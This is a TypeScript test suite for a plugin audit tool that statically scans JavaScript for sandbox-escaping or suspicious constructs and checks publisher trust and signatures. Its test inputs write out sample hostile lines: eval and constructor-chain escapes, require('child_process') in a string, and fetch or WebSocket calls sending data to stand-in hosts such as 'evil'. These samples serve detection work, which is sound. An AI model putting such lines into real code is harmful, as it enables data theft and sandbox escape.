import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { packPlugin } from '../../plugins/archive.ts';
import { auditPlugin, scanSource } from '../../plugins/code-audit.ts';
import { scanJs } from '../../plugins/js-scan.ts';
import { revokePublisher } from '../../trust-store/publishers.ts';
import { createInstallFixture, type InstallFixture } from './install-fixture.ts';

// `hana plugin audit`: the declared permissions and limits, who signed it and whether they are
// trusted here, and a static scan of the JavaScript that finds what cannot work in the sandbox or
// suggests intent — without flagging words inside comments, strings or regular expressions.

let f: InstallFixture;
before(async () => {
  f = await createInstallFixture('audit');
});
after(async () => {
  await f.cleanup();
});

const rules = (src: string) => scanSource('x.js', src).flags.map((x) => `${x.rule}@${x.line}:${x.column}`);

describe('static scan', () => {
  const hits: [string, string, string][] = [
    ['require', 'const fs = require("fs");', 'require@1:12'],
    ['global require', 'globalThis.require("fs");', 'require@1:1'],
    ['dynamic import', 'import("./x.js").then(run);', 'dynamic-import@1:1'],
    ['process', 'if (process.env.HOME) {}', 'process@1:5'],
    ['eval', 'eval(payload);', 'eval@1:1'],
    ['indirect eval', 'const e = (0, eval); e(s);', 'eval@1:15'],
    ['new Function', 'const g = new Function("return this")();', 'function-constructor@1:15'],
    ['Function()', 'Function("x", "return x")(1);', 'function-constructor@1:1'],
    ['constructor chain', 'const F = (()=>{}).constructor.constructor;', 'constructor-chain@1:19'],
    ['fetch', 'fetch("https://example.com/" + secret);', 'network@1:1'],
    ['XMLHttpRequest', 'const x = new XMLHttpRequest();', 'network@1:15'],
    ['WebSocket', 'new WebSocket("ws://evil");', 'network@1:5'],
    ['sendBeacon', 'navigator.sendBeacon("/x", d);', 'sendBeacon@1:1'],
    ['setTimeout', 'setTimeout(tick, 16);', 'timer@1:1'],
    ['setInterval', 'window.setInterval(tick, 16);', 'timer@1:1'],
    ['Atomics.wait', 'Atomics.wait(view, 0, 0, 1000);', 'atomics-wait@1:1'],
    ['SharedArrayBuffer', 'const s = new SharedArrayBuffer(8);', 'shared-memory@1:15'],
    ['WebAssembly', 'WebAssembly.instantiate(bytes);', 'webassembly@1:1'],
    ['atob', 'const code = atob(blob);', 'atob@1:14'],
  ];
  for (const [what, src, expected] of hits) {
    it(`flags ${what}`, () => assert.deepEqual(rules(src), [expected]));
  }

  const clean: [string, string][] = [
    [
      'a line comment',
      '// we never require("fs") or fetch() or setTimeout\nexport function frame() { return []; }',
    ],
    ['a block comment', '/* eval(x); process.exit(); new Function() */ export const a = 1;'],
    ['a string', 'hana.log("cannot use process or setTimeout here");'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source under test
    ['a template', 'const m = `eval(${a}) and require(x)`;'],
    ['a regex', 'const re = /require\\(|fetch\\(/g; const t = re.test(s);'],
    ['a regex after return', 'function f(s) { return /eval\\(/.test(s); }'],
    [
      'property names',
      'const o = { process: 1, fetch: 2 }; o.process; o.fetch(1); obj.setTimeout(1); a.eval;',
    ],
    ['longer identifiers', 'const myrequire = 1; processed(); refetch(); evaluate(); setTimeoutish();'],
  ];
  for (const [where, src] of clean) {
    it(`does not flag words in ${where}`, () =>
      assert.deepEqual(
        rules(src).filter((r) => !r.startsWith('code-in-string')),
        [],
      ));
  }

  it('still finds code after a template substitution and division', () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source under test
    assert.deepEqual(rules('const a = `x ${b / 2} y`; const c = d / e / f; fetch(u);'), ['network@1:48']);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source under test
    assert.deepEqual(rules('const s = `${`${eval}`}`;\nrequire("x");'), ['eval@1:17', 'require@2:1']);
  });

  it('reports lines and columns across multi-line comments and strings', () => {
    const src = '/*\n line 2\n*/\nconst s = "a\\\nb";\n  setInterval(f, 1);\n';
    assert.deepEqual(rules(src), ['timer@6:3']);
  });

  it('flags long encoded strings, code in strings and minified lines', () => {
    const blob = Buffer.alloc(600, 7).toString('base64');
    const src = `const payload = "${blob}";\nconst cmd = "require('child_process')";\n${'a=1;'.repeat(600)}\n`;
    const flags = scanSource('x.js', src).flags;
    assert.deepEqual(
      flags.map((x) => [x.rule, x.severity, x.line]),
      [
        ['minified', 'info', 3],
        ['encoded-payload', 'warning', 1],
        ['code-in-string', 'info', 2],
      ],
    );
  });

  it('caps repeated matches per rule and counts the rest', () => {
    const r = scanSource('x.js', 'setTimeout(f);\n'.repeat(25));
    assert.equal(r.flags.length, 10);
    assert.equal(r.omitted, 15);
  });

  it('escapes control characters in excerpts', () => {
    const [flag] = scanSource('x.js', 'fetch("\x1b[2J"); // \x07').flags;
    // biome-ignore lint/suspicious/noControlCharactersInRegex: checking that none get through
    assert.ok(flag && !/[\x00-\x1f]/.test(flag.excerpt), flag?.excerpt);
  });

  it('never throws on unterminated input', () => {
    for (const src of ['"abc', '`abc ${', '/* abc', '/abc', 'a = `${`', '}}}{{{', '\\']) {
      assert.doesNotThrow(() => scanJs(src));
      assert.doesNotThrow(() => scanSource('x.js', src));
    }
  });
});

describe('auditPlugin', () => {
  it('reports declarations, publisher state, signature and findings for a folder and its archive', async () => {
    const dir = await f.plugin({
      entry: 'export function frame(f) {\n  fetch("http://evil/" + f.time);\n  return [];\n}\n',
      manifest: { description: 'Draws dots', limits: { memoryMb: 16, cpuMsPerFrame: 4, fps: 30 } },
      files: { 'dist/helper.js': 'setTimeout(() => {}, 0);\n', 'assets/readme.txt': 'fetch( not js )' },
    });
    const unknown = await auditPlugin(dir, f.home);
    if (!unknown.ok) assert.fail(unknown.error);
    const r = unknown.report;
    assert.ok(r.manifest.ok);
    if (r.manifest.ok) {
      assert.deepEqual([r.manifest.reads, r.manifest.writes], [['/tempo'], ['/layer/1/opacity']]);
      assert.deepEqual(r.manifest.limits, { memoryMb: 16, cpuMsPerFrame: 4, fps: 30 });
    }
    assert.deepEqual(r.publisher, { keyId: f.a.gen.keyId, state: 'unknown' });
    assert.ok(!r.signature.ok && r.signature.code === 'unknown-publisher');
    assert.deepEqual(r.files.scanned, ['dist/helper.js', 'dist/plugin.js']);
    assert.deepEqual(
      r.flags.map((x) => [x.severity, x.file, x.line, x.rule]),
      [
        ['error', 'dist/helper.js', 1, 'timer'],
        ['error', 'dist/plugin.js', 2, 'network'],
      ],
    );
    assert.match(r.limits, /static scan sees only what is written literally/);

    await f.trust(f.a, 'Example Co');
    const archive = join(f.root, 'audit.hana-plugin');
    assert.ok((await packPlugin(dir, archive)).ok);
    const trusted = await auditPlugin(archive, f.home);
    if (!trusted.ok) assert.fail(trusted.error);
    assert.deepEqual(trusted.report.publisher, {
      keyId: f.a.gen.keyId,
      state: 'trusted',
      name: 'Example Co',
    });
    assert.ok(trusted.report.signature.ok);
    assert.equal(trusted.report.source, archive);

    await revokePublisher(f.home, { key: f.a.gen.keyId, reason: 'test' });
    const revoked = await auditPlugin(archive, f.home);
    assert.ok(revoked.ok && revoked.report.publisher.state === 'revoked');
    assert.ok(
      revoked.ok && !revoked.report.signature.ok && revoked.report.signature.code === 'publisher-revoked',
    );
  });

  it('audits an unsigned folder and an invalid manifest without failing', async () => {
    const dir = await f.plugin({ sign: false, manifest: { writes: ['not a pattern'] } });
    const r = await auditPlugin(dir, f.home);
    if (!r.ok) assert.fail(r.error);
    assert.ok(!r.report.manifest.ok && /OSC address pattern/.test(r.report.manifest.error));
    assert.ok(!r.report.signature.ok && r.report.signature.code === 'unsigned');
  });

  it('refuses a missing source and a hostile archive', async () => {
    const missing = await auditPlugin(join(f.root, 'nope'), f.home);
    assert.ok(!missing.ok && missing.code === 'not-found');
    await writeFile(join(f.root, 'bad.hana-plugin'), 'HANA-PLUGIN\n\x01garbage');
    const bad = await auditPlugin(join(f.root, 'bad.hana-plugin'), f.home);
    assert.ok(!bad.ok);
  });
});
